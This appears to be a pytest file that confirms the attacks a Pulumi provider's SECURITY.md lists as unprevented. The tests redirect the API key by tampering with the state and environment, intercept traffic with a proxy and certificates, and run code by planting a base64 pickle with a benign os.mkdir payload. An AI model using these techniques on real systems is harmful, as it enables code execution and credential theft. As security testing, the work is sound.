"""The attacks that SECURITY.md lists as not prevented: each attack works, and so does the defense that it names."""

from __future__ import annotations

import base64
import json
import os
import pickle
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pulumi_justt.simulator import Options, SimulatorServer
from support import environment
from support.harness import HANG_SECONDS, Stack
from support.host import Host, HostError
from support.secret_scanner import canary
from support.wires import AUTHORITY, connect_proxy, tls_front

SHOP = """
    justt.PaymentIntegration(
        "shop",
        external_identifier="shop-1",
        integration_name="Shop",
        source="stripe",
        credentials=justt.credentials.ApiKeyOnly(api_key=secret("stripeKey")),
    )
"""


class Planted:
    """An object that creates a folder when it's unpickled, in place of an attacker's code."""

    def __init__(self, place: Path) -> None:
        self.place = str(place)

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        """Return the call that unpickling makes."""
        return os.mkdir, (self.place,)


def planted(place: Path) -> str:
    """Return a `__provider` value that creates the folder *place* when it is unpickled."""
    return base64.b64encode(pickle.dumps(Planted(place))).decode()


def rewrite(stack: Stack, change: Callable[[dict[str, Any]], None]) -> None:
    """Change each resource in the state without the key of the secrets provider."""
    exported = json.loads(stack.run("stack", "export", "--stack", stack.name).stdout)
    for resource in exported["deployment"]["resources"]:
        change(resource)
    file = stack.folder / "rewritten.json"
    file.write_text(json.dumps(exported))
    stack.run("stack", "import", "--stack", stack.name, "--file", str(file))


@pytest.fixture
def other() -> Iterator[SimulatorServer]:
    """Start the server of an attacker who can write the state."""
    with SimulatorServer() as running:
        yield running


@pytest.mark.parametrize("command", ["refresh", "destroy"])
@pytest.mark.daily(1)
def test_an_attacker_who_writes_the_state_gets_the_api_key(
    stack: Stack, simulator: SimulatorServer, other: SimulatorServer, command: str
) -> None:
    """If an attacker changes the base URL in the state, refresh and destroy send the API key to that address.

    With `--run-program`, both commands use the configured base URL, and the attacker's server gets no request.
    """
    stack.program(SHOP)
    stack.up()

    def redirect(resource: dict[str, Any]) -> None:
        if resource["type"] == "pulumi:providers:pulumi-python":
            for part in (resource["inputs"], resource["outputs"]):
                part["justt:baseUrl"] = other.base_url

    rewrite(stack, redirect)
    simulator.clear_requests()

    run = getattr(stack, command)
    run(fails=True)  # its server has no such integration
    assert (len(simulator.requests), len(other.requests) > 0) == (0, True)
    other.clear_requests()

    run("--run-program")
    assert (len(simulator.requests) > 0, len(other.requests)) == (True, 0)


@pytest.mark.slow
def test_an_attacker_who_sets_the_base_url_gets_what_is_sent(stack: Stack, other: SimulatorServer) -> None:
    """If an attacker sets JUSTT_BASE_URL where `pulumi up` runs, their server gets the API key and the credentials."""
    stack.run("config", "rm", "justt:baseUrl", "--stack", stack.name)
    stack.program(SHOP)
    stack.up(JUSTT_BASE_URL=other.base_url)

    assert [record.external_identifier for record in other.records.integrations()] == ["shop-1"]


@pytest.mark.slow
def test_an_attacker_who_sets_certificates_and_proxy_gets_what_is_sent(tmp_path: Path) -> None:
    """If an attacker sets the trusted certificates and the proxy, their server responds in Justt's place.

    It gets the API key. With the certificates alone, or the proxy alone, it gets nothing.
    """
    key = canary("api-key")
    settings = {"JUSTT_API_KEY": key, "JUSTT_BASE_URL": "https://justt.invalid/v1", "JUSTT_ENVIRONMENT": "production"}
    command = [sys.executable, "-m", "pulumi_justt.cli", "list"]
    with (
        SimulatorServer(Options(api_keys=frozenset({key}))) as server,
        tls_front(int(server.base_url.rpartition(":")[2].partition("/")[0]), "here") as front,
        connect_proxy(lambda _: b"HTTP/1.1 200 OK\r\n\r\n", front.port) as proxy,
    ):
        certificates = {"SSL_CERT_FILE": AUTHORITY}
        through = {"HTTPS_PROXY": f"http://127.0.0.1:{proxy.port}"}
        for variables, is_reached in ((certificates, False), (through, False), ({**certificates, **through}, True)):
            server.clear_requests()
            done = subprocess.run(
                command,
                cwd=tmp_path,
                env=environment.build({**settings, **variables}),
                capture_output=True,
                timeout=HANG_SECONDS,
                check=False,
            )
            assert (done.returncode == 0, [each.status for each in server.requests]) == (is_reached, [200] * is_reached)


@pytest.mark.slow
def test_an_attacker_who_writes_the_state_can_run_code(stack: Stack, tmp_path: Path) -> None:
    """If an attacker puts a pickle into `__provider` in the state, a refresh unpickles it.

    That runs the attacker's code.
    """
    stack.program(SHOP)
    stack.up()

    def plant(resource: dict[str, Any]) -> None:
        if resource["type"] == "pulumi-python:dynamic/justt:PaymentIntegration":
            for part in (resource["inputs"], resource["outputs"]):
                part["__provider"] = planted(tmp_path / "ran")

    rewrite(stack, plant)
    stack.refresh(fails=True)

    assert (tmp_path / "ran").is_dir()


@pytest.mark.slow
def test_other_users_of_the_machine_can_run_code_in_the_provider_process(
    simulator: SimulatorServer, tmp_path: Path
) -> None:
    """The SDK's server accepts calls from every user of the machine, without a login.

    It unpickles the `__provider` in a call, which runs the caller's code.
    """
    config = {"justt:baseUrl": simulator.base_url, "justt:apiKey": canary("api-key")}
    with Host(config) as host, pytest.raises(HostError):
        host.check({}, {"__provider": planted(tmp_path / "ran")})

    assert (tmp_path / "ran").is_dir()


def default_provider(stack: Stack) -> dict[str, Any]:
    """Return the inputs of the engine's own provider in the state."""
    (found,) = (each for each in stack.all_resources() if each["urn"].endswith("pulumi-python::default"))
    inputs: dict[str, Any] = found["inputs"]
    return inputs


@pytest.mark.slow
def test_the_state_copies_the_configuration(stack: Stack) -> None:
    """After an `up`, the state has the configuration of all namespaces, with its secrets encrypted.

    A value that the user removes from the configuration stays in the state until the next `up`.
    """
    stack.config({"shop:plain": "not-secret"}, {"shop:first": canary("first"), "other:unused": canary("unused")})
    stack.environ["REFERRED"] = canary("referred")
    kept = SHOP.replace('secret("stripeKey")', 'justt.from_env("REFERRED")')
    stack.program(kept + SHOP.replace("shop", "leaves").replace("stripeKey", "first"))
    stack.up()
    stack.program(kept)
    stack.up()

    inputs = default_provider(stack)
    assert inputs["shop:plain"] == "not-secret"
    assert all("ciphertext" in inputs[name] for name in ("shop:first", "other:unused", "justt:apiKey"))

    for name in ("shop:first", "other:unused"):
        stack.run("config", "rm", name, "--stack", stack.name)
    assert "shop:first" in default_provider(stack)
    stack.up()
    assert default_provider(stack).keys().isdisjoint({"shop:first", "other:unused"})


@pytest.mark.slow
def test_a_secret_account_is_plain_in_the_state(stack: Stack, simulator: SimulatorServer) -> None:
    """If the account is a secret in the configuration, the integration's state still has it in plain text.

    So has the journal, which also has the base URL and an external identifier that the program marks as secret. The
    base URL of a `justt.Provider` is encrypted in the state if it is a secret in the configuration.
    """
    stack.run("config", "set", "--secret", "justt:referenceAccountId", "acc_1", "--stack", stack.name)
    stack.run("config", "set", "--secret", "justt:baseUrl", simulator.base_url, "--stack", stack.name)
    stack.program(f"""
    own = justt.Provider("own", api_key=secret("stripeKey"))
    {SHOP.strip().replace('"shop-1"', 'pulumi.Output.secret("secret-name")')}
    """)
    stack.up()

    found = {each["urn"].rpartition("::")[2]: each["inputs"] for each in stack.all_resources() if "inputs" in each}
    assert found["shop"]["referenceAccountId"] == "acc_1"
    assert "ciphertext" in found["own"]["justt:baseUrl"]
    files = (stack.folder / "user" / ".local" / "state" / "pulumi-justt" / "intents").rglob("*.json")
    (intent,) = (json.loads(file.read_text()) for file in files)
    assert (intent["account"], intent["base_url"]) == ("acc_1", simulator.base_url)
    assert intent["external_identifier"] == "secret-name"
